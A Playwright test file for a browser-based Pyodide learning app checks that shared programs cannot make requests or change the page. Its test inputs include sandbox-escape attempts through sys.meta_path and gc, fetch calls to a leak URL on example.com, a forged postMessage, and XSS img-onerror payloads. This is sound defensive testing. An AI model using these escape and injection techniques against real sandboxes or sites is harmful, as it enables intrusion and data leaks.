/**
 * A shared link runs someone else's program: it must make no request and change nothing on
 * the page outside the app's own output, whatever it tries (the JavaScript bridge, the
 * network, sys.modules tricks, markup in its output). The page's CSP allows connect-src
 * 'self' only. And the learner's saved text survives reloads, a killed worker and bad links.
 */
import { expect, test, type BrowserContext, type Page, type Request } from '@playwright/test';
import { fixtureSource } from '../test/bad-input/check';
import { waitForStatus } from './helpers';
import { getSource, openApp, runAndWait, setSource } from './runInPage';

const SAVED_KEY = 'loopscope.source';

const TRICKS = `import sys, importlib, gc

def attempt(label, get):
    try:
        m = get()
    except BaseException as e:
        print('blocked', label, type(e).__name__)
        return None
    print('REACHED', label)
    return m

found = []
for name in ('js', 'pyodide_js', 'pyodide', 'pyodide.ffi', 'pyodide.http', '_pyodide_core'):
    found.append(attempt(f'__import__({name})', lambda: __import__(name)))
    found.append(attempt(f'import_module({name})', lambda: importlib.import_module(name)))
    found.append(attempt(f'sys.modules[{name}]', lambda: sys.modules[name]))
found.append(attempt('_builtin_from_name(_pyodide_core)', lambda: importlib._bootstrap._builtin_from_name('_pyodide_core')))

def without_blocker():
    saved = list(sys.meta_path)
    sys.meta_path[:] = [f for f in saved if 'Block' not in type(f).__name__]
    try:
        return importlib.import_module('js')
    finally:
        sys.meta_path[:] = saved
found.append(attempt('import js with the blocking finder taken off sys.meta_path', without_blocker))

def from_gc():
    for o in gc.get_objects():
        if isinstance(o, dict):
            for v in list(o.values()):
                if type(v).__name__ in ('module', 'JsProxy') and getattr(v, '__name__', '') in ('js', 'pyodide_js'):
                    return v
    raise LookupError('no js module among live objects')
found.append(attempt('a js module found through gc', from_gc))

for m in found:
    if m is None:
        continue
    for url in ('/leak', 'http://example.com/leak'):
        try:
            m.fetch(url)
            print('REACHED fetch', url)
        except BaseException as e:
            print('no fetch', type(e).__name__)
    try:
        m.postMessage({'type': 'ready', 'bootMs': 0, 'pythonVersion': 'forged'})
        print('REACHED postMessage')
    except BaseException as e:
        print('no postMessage', type(e).__name__)
print('end')
`;

const MARKUP = `import asyncio

async def job():
    print('<img src=x onerror="fetch(\\'/leak-img\\')"><script>document.title="pwned"</script>')

async def main():
    await asyncio.create_task(job(), name='<img src=y onerror="document.title=1">')

asyncio.run(main())
`;

interface Hostile {
  readonly name: string;
  readonly source: string;
  /** What must not appear in its stdout (a sign it reached something). */
  readonly stdoutLacks?: readonly string[];
  /** Text the console must show as is (markup printed as text, not made into elements). */
  readonly shows?: string;
}

const HOSTILE: readonly Hostile[] = [
  { name: 'import js', source: fixtureSource('import-js.py') },
  { name: 'from js import fetch', source: fixtureSource('from-js-import-fetch.py') },
  { name: 'import pyodide.ffi', source: fixtureSource('import-pyodide-ffi.py') },
  { name: 'pyodide.http.pyfetch', source: fixtureSource('pyodide-http.py') },
  { name: 'urllib.request.urlopen', source: fixtureSource('urllib-urlopen.py') },
  { name: 'socket.create_connection', source: fixtureSource('socket-connect.py') },
  { name: 'asyncio.open_connection', source: fixtureSource('asyncio-open-connection.py') },
  // The simulated HTTP clients (README, "Simulated network") answer without a request leaving.
  { name: 'aiohttp session.get (simulated)', source: fixtureSource('import-aiohttp.py'), shows: '200' },
  // No `shows`: it runs without an event loop, so there are no steps to jump to the end of.
  { name: 'requests.get (simulated)', source: fixtureSource('import-requests.py') },
  { name: 'markup in its output and task names', source: MARKUP, shows: '<img src=x' },
  // Python cannot hide objects from code in the same interpreter (gc, frames): a program may
  // find a JS proxy, but the worker has no fetch, no postMessage, nothing to reach out with.
  { name: 'sys.modules, sys.meta_path and gc tricks to reach js', source: TRICKS, stdoutLacks: ['REACHED fetch', 'REACHED postMessage'] },
];

/** Every request the page and its workers make, seen from the page and from the context. */
function recordRequests(page: Page, context: BrowserContext): Set<Request> {
  const seen = new Set<Request>();
  page.on('request', (r) => seen.add(r));
  context.on('request', (r) => seen.add(r));
  return seen;
}

/**
 * Chromium fetches the page's own favicon again each time the address bar changes (the app
 * keeps it a share link to the last run): the browser's request for our fixed file, which no
 * program can steer, so it is not counted.
 */
function isBrowserFavicon(request: Request): boolean {
  return request.method() === 'GET' && request.resourceType() === 'other' && new URL(request.url()).pathname === '/favicon.svg';
}

interface PageSurface {
  readonly title: string;
  readonly documentAttributes: string;
  readonly bodyAttributes: string;
  readonly head: readonly string[];
  readonly bodyChildren: readonly string[];
  /** Elements a program could use to load or run something, anywhere in the page. */
  readonly active: readonly string[];
  readonly storage: Readonly<Record<string, string>>;
  readonly cookie: string;
}

/** What a program must not change: everything except the app's own output areas and the saved text. */
async function surface(page: Page): Promise<PageSurface> {
  return page.evaluate((savedKey) => {
    const attrs = (el: Element): string => [...el.attributes].map((a) => `${a.name}=${a.value}`).join(' ');
    const storage: Record<string, string> = {};
    for (let i = 0; i < localStorage.length; i++) {
      const key = localStorage.key(i);
      if (key !== null && key !== savedKey) storage[key] = localStorage.getItem(key) ?? '';
    }
    return {
      title: document.title,
      documentAttributes: attrs(document.documentElement),
      bodyAttributes: attrs(document.body),
      // Monaco adds and rewrites <style> elements as it draws: the app's own.
      head: [...document.head.children].filter((e) => e.tagName !== 'STYLE').map((e) => `${e.tagName} ${attrs(e)}`),
      bodyChildren: [...document.body.children].map((e) => (e.id === 'root' ? 'ROOT' : `${e.tagName} ${e.id}`)),
      active: [...document.querySelectorAll('script, iframe, img, object, embed, link, [onerror], [onload], [onclick]')].map(
        (e) => `${e.tagName} ${attrs(e)}`,
      ),
      storage,
      cookie: document.cookie,
    };
  }, SAVED_KEY);
}

test.describe('isolation', () => {
  test.describe.configure({ mode: 'parallel' });

  test('the request listeners see the engine worker fetch Pyodide (so a count of zero means something)', async ({ page, context }) => {
    const seen = recordRequests(page, context);
    await openApp(page);
    const urls = [...seen].map((r) => r.url());
    expect(urls.some((u) => u.endsWith('pyodide.asm.wasm')), urls.join('\n')).toBe(true);
    expect(urls.some((u) => u.endsWith('python_stdlib.zip')), urls.join('\n')).toBe(true);
  });

  test('hostile programs make zero requests and change nothing on the page', async ({ page, context }) => {
    test.slow();
    const seen = recordRequests(page, context);
    await openApp(page);
    await page.waitForLoadState('networkidle');
    // The spare engine boots once the first has been idle a moment (engineClient's
    // SPARE_IDLE_MS) and loads what an engine loads: let it, so what is counted below is what
    // the programs do. None of them ends its engine, so no other spare boots meanwhile.
    await expect.poll(() => [...seen].filter((r) => r.url().includes('/assets/engine.worker')).length, { timeout: 60_000 }).toBeGreaterThanOrEqual(2);
    await page.waitForTimeout(3000);
    const counts: string[] = [];
    // Soft checks: every program runs and is reported even when one gets through.
    for (const hostile of HOSTILE) {
      await setSource(page, hostile.source);
      const before = await surface(page);
      const cookiesBefore = await context.cookies();
      seen.clear();
      const run = await runAndWait(page, 30_000);
      // Let anything the program started (a fetch, an image load) happen before counting.
      await page.waitForTimeout(500);
      const requests = [...seen].filter((r) => !isBrowserFavicon(r)).map((r) => `${r.method()} ${r.resourceType()} ${r.url()}`);
      counts.push(`  ${hostile.name.padEnd(56)} ${requests.length} requests (${run.status}, ${run.ms} ms)`);
      expect.soft(requests, `${hostile.name}: requests made`).toEqual([]);
      expect.soft(await surface(page), `${hostile.name}: the page outside the app's output`).toEqual(before);
      expect.soft(await context.cookies(), `${hostile.name}: cookies`).toEqual(cookiesBefore);
      expect.soft(await getSource(page), `${hostile.name}: the editor text`).toBe(hostile.source);
      expect.soft(run.status, hostile.name).toBe('done');
      const stdout = await page.evaluate(() => window.__loopscope?.trace()?.stdout ?? '');
      if (hostile.shows !== undefined) {
        await page.getByTestId('jump-end').click();
        await expect.soft(page.getByTestId('console'), hostile.name).toContainText(hostile.shows);
      }
      for (const lacks of hostile.stdoutLacks ?? []) expect.soft(stdout, `${hostile.name}: stdout`).not.toContain(lacks);
    }
    console.log(`requests while each hostile program ran:\n${counts.join('\n')}`);
    const stdout = await page.evaluate(() => window.__loopscope?.trace()?.stdout ?? '');
    console.log(`the tricks program printed:\n${stdout}`);
  });

  test("the page's CSP allows connect-src 'self' only, for the document and the engine worker", async ({ page }) => {
    const workerResponses: { url: string; csp: string | undefined }[] = [];
    page.on('response', (r) => {
      if (r.request().resourceType() === 'script' && /engine\.worker/.test(r.url())) {
        workerResponses.push({ url: r.url(), csp: r.headers()['content-security-policy'] });
      }
    });
    const workers: string[] = [];
    page.on('worker', (w) => workers.push(w.url()));
    const response = await page.goto('/');
    await waitForStatus(page, 'ready');
    const csp = response?.headers()['content-security-policy'] ?? '';
    const directives = new Map(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0] !== undefined && d[0] !== '')
        .map((d) => [d[0] ?? '', d.slice(1)]),
    );
    expect(directives.get('connect-src'), csp).toEqual(["'self'"]);
    expect(csp.match(/connect-src/g)?.length, 'one connect-src').toBe(1);
    // default-src is the fallback for anything without its own directive.
    expect(directives.get('default-src'), csp).toEqual(["'self'"]);
    // The meta copy of the policy says the same.
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toBe(csp);

    const engineWorker = workers.find((u) => /engine\.worker/.test(u));
    expect(engineWorker, workers.join('\n')).toBeDefined();
    // A worker loaded from our origin gets its own policy from its response (or, for blob:/data:, inherits the page's).
    const fromServer = workerResponses.find((w) => w.url === engineWorker);
    if (engineWorker !== undefined && engineWorker.startsWith('http')) {
      expect(fromServer, 'the worker script response was seen').toBeDefined();
      expect(fromServer?.csp).toBe(csp);
    }
  });
});

test.describe('the saved editor text survives', () => {
  test.describe.configure({ mode: 'parallel' });

  const MINE = '# my program, typed by hand\nimport asyncio\n\nasync def main():\n    await asyncio.sleep(1)\n\nasyncio.run(main())\n';
  const LONG_C_CALL = fixtureSource('long-c-call.py');

  async function saveText(page: Page, text: string): Promise<void> {
    await setSource(page, text);
    await expect.poll(() => page.evaluate((key) => localStorage.getItem(key), SAVED_KEY)).toBe(text);
  }

  /** Not a blank page: the editor is there with the text, and typing into it works. */
  async function expectUsableEditor(page: Page, text: string): Promise<void> {
    await expect(page.locator('.monaco-editor')).toBeVisible({ timeout: 30_000 });
    expect(await getSource(page)).toBe(text);
    await page.locator('.monaco-editor .view-lines').click();
    await page.keyboard.press('Control+End');
    await page.keyboard.type('# typed');
    await expect.poll(() => getSource(page)).toContain('# typed');
  }

  test('a reload during a run', async ({ page }) => {
    await openApp(page);
    await saveText(page, LONG_C_CALL);
    await page.getByTestId('run').click();
    await waitForStatus(page, 'running');
    await page.reload();
    await expectUsableEditor(page, LONG_C_CALL);
  });

  test('a reload during a run, after an earlier run put that program in the address bar', async ({ page }) => {
    test.slow();
    await openApp(page);
    await saveText(page, MINE);
    await runAndWait(page, 30_000);
    await expect.poll(() => page.evaluate(() => location.hash)).toContain('#code/');
    // The learner writes another program and runs it, then reloads while it runs: the address
    // bar still holds the first program's link.
    await setSource(page, LONG_C_CALL);
    await page.getByTestId('run').click();
    await waitForStatus(page, 'running');
    await page.reload();
    await expectUsableEditor(page, LONG_C_CALL);
  });

  test('a worker killed by the watchdog', async ({ page }) => {
    test.slow();
    await openApp(page);
    await saveText(page, LONG_C_CALL);
    await runAndWait(page, 45_000);
    await expect(page.locator('[data-testid="notice"]')).toContainText('restarted');
    await page.goto('/');
    await expectUsableEditor(page, LONG_C_CALL);
  });

  for (const [what, hash] of [
    ['an undecodable link', '#code/%%%garbage'],
    ['a link of an unknown format', '#v9/xyz'],
  ] as const) {
    test(`${what} (${hash}): a message, and the saved text in a usable editor`, async ({ page }) => {
      await openApp(page);
      await saveText(page, MINE);
      // A fresh load of the link (a hash-only goto opens it in the same document).
      await page.goto('about:blank');
      await page.goto(`/${hash}`);
      await expect(page.getByTestId('notice')).toHaveAttribute('data-kind', 'link-error');
      await expect(page.getByTestId('notice')).toContainText('could not be opened');
      await expectUsableEditor(page, MINE);
    });
  }

  test('a truncated link: a message, and the saved text in a usable editor', async ({ page }) => {
    await openApp(page);
    const hash = await page.evaluate((source) => window.__loopscope?.shareHash({ source }) ?? '', `${MINE}print('from the link')\n`);
    expect(hash).toMatch(/^#code\//);
    await saveText(page, MINE);
    // A fresh load of the link (a hash-only goto opens it in the same document).
    await page.goto('about:blank');
    await page.goto(`/${hash.slice(0, Math.floor(hash.length / 2))}`);
    await expect(page.getByTestId('notice')).toHaveAttribute('data-kind', 'link-error');
    await expectUsableEditor(page, MINE);
  });
});
